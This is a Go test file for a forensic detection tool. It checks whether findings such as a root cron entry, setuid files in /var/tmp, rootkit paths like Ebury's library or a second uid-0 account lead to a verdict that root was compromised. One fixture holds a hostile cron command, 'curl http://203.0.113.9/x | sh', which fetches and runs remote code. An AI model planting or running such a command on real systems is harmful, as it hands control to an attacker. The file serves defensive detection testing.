package story

import (
	"strings"
	"testing"

	"telltale/detect"
	"telltale/evidence"
)

// TestRootByTraces: what only root can have left shows that root was reached, also where nobody is seen to become root, and no story says both.
func TestRootByTraces(t *testing.T) {
	roots := cron("/etc/cron.d/x", "curl http://203.0.113.9/x | sh", detect.Critical, "03:02:00")
	for name, tc := range map[string]struct {
		f    detect.Finding
		root bool
	}{
		"an entry of root's": {roots, true},
		"an entry of bob's":  {with(roots, func(f *detect.Finding) { f.As, f.Path = "bob", "/var/spool/cron/crontabs/bob" }), false},
	} {
		s := Build(t.Context(), append(lie(), tc.f), full())
		check(t, &s)
		if got := s.Verdict.Root != nil && *s.Verdict.Root; got != tc.root || strings.Contains(s.Verdict.Summary, "No sign was found") == tc.root {
			t.Errorf("%s: root %v: %s", name, got, s.Verdict.Summary)
		}
		for _, x := range s.Exposed {
			if x.Status != Possible {
				t.Errorf("%s: %s was exposed, %s, though that there was an intruder is only possible", name, x.Path, x.Status)
			}
		}
	}
	s := Build(t.Context(), append(lie(), roots), full())
	s.Verdict.Root = nil
	if len(s.Contradictions()) == 0 {
		t.Error("no sign of root and a cron entry of root's are no contradiction")
	}
}

// TestRootByFiles: a program that runs as root for whoever starts it was made by root; one that runs as its group, or as another account, was not.
func TestRootByFiles(t *testing.T) {
	odd := func(account, mode string) detect.Finding {
		return detect.Finding{Detection: "D39", What: detect.OddFile, Title: "/var/tmp/sh runs with its owner's rights", Detail: "runs with its owner's rights (mode " + mode + ") and no package owns it", Path: "/var/tmp/sh", Level: detect.High, Rung: evidence.Effect, Account: account, Mechanism: "file",
			Attack: []string{"T1548.001"}, First: at("01:03:00"), Last: at("01:03:00"), Count: 1, For: quote("/var/tmp/sh")}
	}
	in := login(detect.GuessedIn, "bob", "203.0.113.6", "password", "01:00:00", "01:10:00", detect.Access{FailedHere: 50, FailedAddress: 90, TriedAccounts: 5, TriedInvalid: 9, NewAddress: true})
	for name, tc := range map[string]struct {
		f    detect.Finding
		root bool
	}{
		"root's":            {odd("root", "4755"), true},
		"root's, its group": {odd("root", "2755"), false},
		"bob's own":         {odd("bob", "4755"), false},
	} {
		s := Build(t.Context(), []detect.Finding{in, tc.f}, full())
		if got := s.Verdict.Root != nil && *s.Verdict.Root; s.Verdict.Status != Compromised || got != tc.root {
			t.Errorf("%s: %s, root %v: %s", name, s.Verdict.Status, got, s.Verdict.Summary)
		}
	}
}

// TestRootByWhatOnlyRootLeaves: what nobody but root can leave says that root is lost, where nothing else is known; what others can leave does not.
func TestRootByWhatOnlyRootLeaves(t *testing.T) {
	file := func(p, account string) detect.Finding {
		return detect.Finding{Detection: "D42", What: detect.OddFile, Title: p + " is where Ebury lies", Path: p, Level: detect.Critical, Rung: evidence.Effect, Account: account, Mechanism: "file", Attack: []string{"T1014"}, First: at("01:03:00"), Last: at("01:03:00"), Count: 1, For: quote(p)}
	}
	copied := full()
	copied.ChangeTimes = false
	for name, tc := range map[string]struct {
		f    detect.Finding
		set  Setting
		root bool
	}{
		"root's in /tmp":                       {file("/tmp/.x/a", "root"), full(), true},
		"a service's in /tmp":                  {file("/tmp/kinsing", "www-data"), full(), false},
		"in a library's place":                 {file("/lib64/libkeyutils.so.1.5", ""), full(), true},
		"in a plugins' folder, the service's":  {file("/usr/lib/mysql/plugin/x.so", "mysql"), full(), false},
		"of a copy, whose owners are not told": {file("/tmp/.x/a", "root"), copied, false},
		"a second root":                        {detect.Finding{Detection: "D45", What: detect.AccountOdd, Title: "account x: a second account with uid 0", Account: "x", As: "0", Level: detect.Critical, Rung: evidence.Effect, First: at("01:03:00"), Count: 1, For: quote("x")}, full(), true},
	} {
		s := Build(t.Context(), []detect.Finding{tc.f}, tc.set)
		check(t, &s)
		if got := s.Verdict.Root != nil && *s.Verdict.Root; s.Verdict.Status != Compromised || got != tc.root {
			t.Errorf("%s: %s, root %v: %s", name, s.Verdict.Status, got, s.Verdict.Summary)
		}
	}
}
